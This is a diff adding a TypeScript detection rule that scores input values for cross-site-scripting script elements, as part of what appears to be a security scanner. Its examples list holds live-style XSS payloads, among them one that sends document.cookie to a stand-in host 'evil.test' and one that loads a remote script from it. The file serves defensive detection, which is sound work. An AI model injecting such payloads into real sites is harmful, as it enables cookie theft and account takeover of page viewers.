@@ -1,0 +1,194 @@
+import { html } from '../../grammars/html/html.ts';
+import type { HtmlTag } from '../../grammars/html/html-tags.ts';
+import { followsBreakout } from '../../grammars/html/markup.ts';
+import {
+  isAdjacent,
+  isQuote,
+  kindAt,
+  type ScriptTokens,
+  scriptKind,
+  tokenIndexAt,
+  wordAt,
+} from '../../grammars/script/script.ts';
+import { scriptPieces, strongestScript } from '../../grammars/script/script-pieces.ts';
+import { keywords } from '../../knowledge/page.ts';
+import { confidence } from '../../placement/confidence.ts';
+import type { Subject } from '../../placement/subject.ts';
+import { charClass, isAlnum } from '../../text/char-class.ts';
+import type { Match, ValueRule } from '../rule.ts';
+
+/** `<script>…`, `<svg:script href=…>`. */
+export const scriptElement: ValueRule = {
+  id: 'xss.script-element',
+  category: 'xss',
+  cwe: 'CWE-79',
+  severity: 'critical',
+  score: confidence.certain,
+  message: 'starts a script element, which runs in the browser of every viewer',
+  trigger: { classes: charClass.less, literals: [['script']] },
+  judge: judgeScriptElement,
+  examples: [
+    '<script>alert(1)</script>',
+    'Nice page!<ScRiPt\n>top.location="//evil.test/"+document.cookie</sCrIpT>',
+    '"><script src=//evil.test/x.js>',
+    "<svg><script xlink:href='data:,steal()'></script></svg>",
+    '</title><script>a=/x/.source',
+  ],
+  lookalikes: [
+    'Put your code between <script> and </script>, near the end of the page.',
+    'The <script> tag (see chapter 4) has an async attribute.',
+    'I wrote <script src="app.js"></script> at the end of the body but it does not load.',
+    'manuscript <p>The script was <b>great</b>.</p>',
+    'if (count<scripts.length && total > 0) run the next one',
+  ],
+};
+
+const sourceAttributes: ReadonlySet<string> = new Set(['src', 'href', 'xlink:href', 'x:href']);
+
+/** Characters of the element that are shown as evidence. */
+const evidenceChars = 80;
+
+function judgeScriptElement(subject: Subject): Match | undefined {
+  const { text } = subject;
+  const tokens = subject.tokens(html);
+  if (!tokens.isComplete) subject.incomplete('tokens');
+  let best: Match | undefined;
+  for (const tag of tokens.tags) {
+    if (!isScriptName(tag.name)) continue;
+    if (tag.isEndTag && best !== undefined) continue;
+    const score = tag.isEndTag ? scoreOfEnd(subject, tag) : scoreOf(subject, tag);
+    if (score <= (best?.score ?? 0)) continue;
+    const end = Math.max(tag.end, Math.min(tag.contentEnd, tag.start + evidenceChars));
+    best = { start: tag.start, end: Math.min(end, text.length), score };
+    if (score >= confidence.certain) break;
+  }
+  return best;
+}
+
+function scoreOf(subject: Subject, tag: HtmlTag): number {
+  const { text } = subject;
+  // Without a `>` no parser makes an element of it, but the page behind the value may have one.
+  if (tag.name !== 'script')
+    return tag.isClosed || mayHoldSource(subject, tag) ? confidence.likely : confidence.hint;
+  for (const { name, valueStart, valueEnd } of tag.attributes) {
+    if (valueEnd <= valueStart || !sourceAttributes.has(name)) continue;
+    return isOwnScript(subject, tag, text.slice(valueStart, valueEnd))
+      ? confidence.hint
+      : confidence.certain;
+  }
+  const isBreakout = followsBreakout(text, tag.start);
+  if (!tag.isClosed && tag.contentEnd >= text.length) {
+    const isPrefixed =
+      (text.charCodeAt(tag.start + 1) | 32) !== 115 && text.startsWith(':', tag.end - 7);
+    return isBreakout || isPrefixed ? confidence.strong : confidence.hint;
+  }
+  const pieces = subject.tokens(scriptPieces);
+  const { tokens } = pieces;
+  const first = tokenIndexAt(tokens, tag.end);
+  const last = tokenIndexAt(tokens, tag.contentEnd);
+  if (isNothing(tokens, first, last)) {
+    const isComment = tag.contentEnd - tag.end > 4 && first === last;
+    return isBreakout || (isComment && tag.contentEnd < text.length)
+      ? confidence.likely
+      : confidence.hint;
+  }
+  const { strength } = strongestScript(pieces, tag.end, tag.contentEnd);
+  if (startsAsProse(tokens, first, last)) {
+    if (strength >= 3) return confidence.strong;
+    return isBreakout && (last - first < 2 || !isSentenceMark(tokens, first))
+      ? confidence.likely
+      : confidence.trace;
+  }
+  if (strength >= 1) return confidence.certain;
+  if (isSearch(text.slice(tag.end, Math.min(tag.contentEnd, tag.end + 80)))) return confidence.hint;
+  const isEnded = tag.contentEnd < text.length;
+  return isEnded || isBreakout || hasOperator(tokens, first, last)
+    ? confidence.certain
+    : confidence.hint;
+}
+
+function mayHoldSource({ text }: Subject, tag: HtmlTag): boolean {
+  return source.test(text.slice(tag.start, tag.start + tagCharsMax));
+}
+
+const source = /(?:src|href)[\s\0]{0,8}=/i;
+
+const tagCharsMax = 400;
+
+/** `<script src="app.js"></script>`: a file beside the page, as beginners show it. */
+function isOwnScript({ text }: Subject, tag: HtmlTag, source: string): boolean {
+  if (!ownSource.test(source) || followsBreakout(text, tag.start)) return false;
+  const content = text.slice(tag.end, Math.min(tag.contentEnd, tag.end + 40));
+  return content.trim() === '' && tag.contentEnd < text.length;
+}
+
+/** A relative path in plain spelling to a script with a name. */
+const ownSource =
+  /^(?:\.\/)?(?:[\w@-]{2,40}\/){0,6}[\w@-]{2,40}(?:\.[\w-]{1,20}){0,3}\.(?:m?js|[jt]sx?)$/;
+
+/**
+ * `script`, also with rubbish behind it that an old parser or a filter drops; no `script-loader`.
+ */
+function isScriptName(name: string): boolean {
+  if (name === 'script') return true;
+  if (!name.startsWith('script')) return false;
+  return !isAlnum(name.charCodeAt(6)) && !'-_.:,@'.includes(name.charAt(6));
+}
+
+/** An end tag without its start tag closes the script that the value lands in. */
+function scoreOfEnd(subject: Subject, tag: HtmlTag): number {
+  const pieces = subject.tokens(scriptPieces);
+  const { tokens } = pieces;
+  const last = kindAt(tokens, tokenIndexAt(tokens, tag.start) - 1);
+  const isTagEnd = last === 62 && isQuote(kindAt(tokens, tokenIndexAt(tokens, tag.start) - 2));
+  const endsCode =
+    isTagEnd || last === 59 || last === 41 || last === 125 || last === 34 || last === 39;
+  if (endsCode && tag.start > 0) return confidence.strong;
+  const { strength } = strongestScript(pieces, 0, tag.start);
+  return strength >= 2 && !pieces.isProse ? confidence.strong : confidence.trace;
+}
+
+/** No content, or just dots that stand for some. */
+function isNothing(tokens: ScriptTokens, first: number, last: number): boolean {
+  for (let i = first; i < last && i < first + 8; i++) {
+    const kind = kindAt(tokens, i);
+    if (kind !== 46 && kind !== 0x2026 && kind !== 60) return false;
+  }
+  return last - first < 8;
+}
+
+/** Two plain words, or one word with a comma, full stop or bracket as in a sentence. */
+function startsAsProse(tokens: ScriptTokens, first: number, last: number): boolean {
+  if (kindAt(tokens, first) !== scriptKind.word) return isSentenceMark(tokens, first);
+  if (isAdjacent(tokens, first) || keywords.has(wordAt(tokens, first))) return false;
+  if (first + 1 >= last) return true;
+  const next = kindAt(tokens, first + 1);
+  if (next === scriptKind.word) return !infix.has(wordAt(tokens, first + 1));
+  return !isAdjacent(tokens, first + 1) && next === 40;
+}
+
+/** `<script>+tag+async+or+defer`: words of a search in an address, where `+` is a blank. */
+function isSearch(content: string): boolean {
+  return searchWords.test(content);
+}
+
+/** Words that join the one before to the one behind; of others, two in a row are no script. */
+const infix: ReadonlySet<string> = new Set(['in', 'instanceof', 'of', 'as']);
+const searchWords = /^(?:\+|%20)[A-Za-z]{2,20}(?:(?:\+|%20)[A-Za-z]{2,20}){1,8}(?:$|[&#])/;
+
+/** `<script>, …`, `<script>. Then`, `"<script>" is`: what no script begins with. */
+function isSentenceMark(tokens: ScriptTokens, at: number): boolean {
+  const kind = kindAt(tokens, at);
+  const isMark = kind === 44 || kind === 46 || kind === 58 || kind === 41 || isQuote(kind);
+  // `<script =">" src="…">`: the first `>` ends the tag for the standard, but not for all.
+  if (kindAt(tokens, at + 2) === 61) return false;
+  return isMark && isAdjacent(tokens, at) && !isAdjacent(tokens, at + 1);
+}
+
+function hasOperator(tokens: ScriptTokens, first: number, last: number): boolean {
+  for (let i = first; i < last && i < first + 12; i++) {
+    const kind = kindAt(tokens, i);
+    if (kind === 61 || kind === 40 || kind === 59 || kind === 91 || kind === 96) return true;
+  }
+  return false;
+}
